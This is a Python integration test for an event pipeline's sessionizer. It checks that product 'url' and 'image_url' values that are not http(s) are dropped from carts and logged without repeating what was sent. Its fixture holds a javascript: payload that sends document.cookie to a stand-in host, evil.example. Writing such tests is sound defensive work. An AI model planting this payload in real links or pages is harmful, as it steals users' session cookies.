#!/usr/bin/python3
"""Links from events reach messages only as http(s) URLs (ARCHITECTURE
"Trust"; README, sessionizer): a browser's write key is public, and a
product "url" of "javascript:..." would land in a reminder's <a href>.

Through the real collector and sessionizer, event time: a Product Added
whose url is javascript: and whose image_url is https, then one whose
url is https and whose image_url is data: with a space in it.

  - the cart the sessionizer passes on keeps the https links and drops
    the others, product by product, the rest of each product intact;
  - each drop is one log line that does not repeat what was sent.
"""
from ndtest import JournalReader, Pipeline, check, done, wait_for

T = "2026-03-02T12:00:%02d.000Z"
EVIL = "javascript:fetch('//evil.example/?'+document.cookie)"
products = [
    {"product_id": "p-1", "name": "Trail shoe", "price": 89.9, "quantity": 1,
     "url": EVIL, "image_url": "https://shop.example/i/1.jpg"},
    {"product_id": "p-2", "name": "Wool socks", "price": 12.5, "quantity": 2,
     "url": "https://shop.example/p/2", "image_url": "data:image/png;base64,AAAA AAAA"},
]

with Pipeline(clock="event") as p:
    p.start("collector")
    p.start("sessionizer")
    reader = JournalReader(p, "sessionizer", "reader", 1000)
    batch = [{"type": "track", "event": "Product Added", "anonymousId": "a-1", "messageId": "m-%d" % i,
              "timestamp": T % i, "properties": product} for i, product in enumerate(products)]
    status, _ = p.post("/v1/batch", {"batch": batch})

    def cart():
        reader.poll(0.2)
        updates = [b for _, t, b in reader.messages if t == "cart.updated"]
        return updates and len(updates[-1]["cart"]["items"]) == 2 and updates[-1]["cart"]["items"]
    items = wait_for(cart, 10) or []
    by_id = {item["product_id"]: item for item in items}
    shoe, socks = by_id.get("p-1", {}), by_id.get("p-2", {})
    check("both products are in the cart", status == 200 and len(items) == 2, items)
    check("a javascript: url is dropped, the product's https image kept",
          "url" not in shoe and shoe.get("image_url") == "https://shop.example/i/1.jpg"
          and shoe.get("name") == "Trail shoe", shoe)
    check("a data: image with a space is dropped, the https url kept",
          "image_url" not in socks and socks.get("url") == "https://shop.example/p/2", socks)
    log = p.log("sessionizer")
    check("each drop is logged once, without what was sent",
          log.count("dropped a product's url: not an http(s) link") == 1
          and log.count("dropped a product's image_url: not an http(s) link") == 1
          and "javascript" not in log and "evil.example" not in log, log[-1500:])
    reader.close()
done()
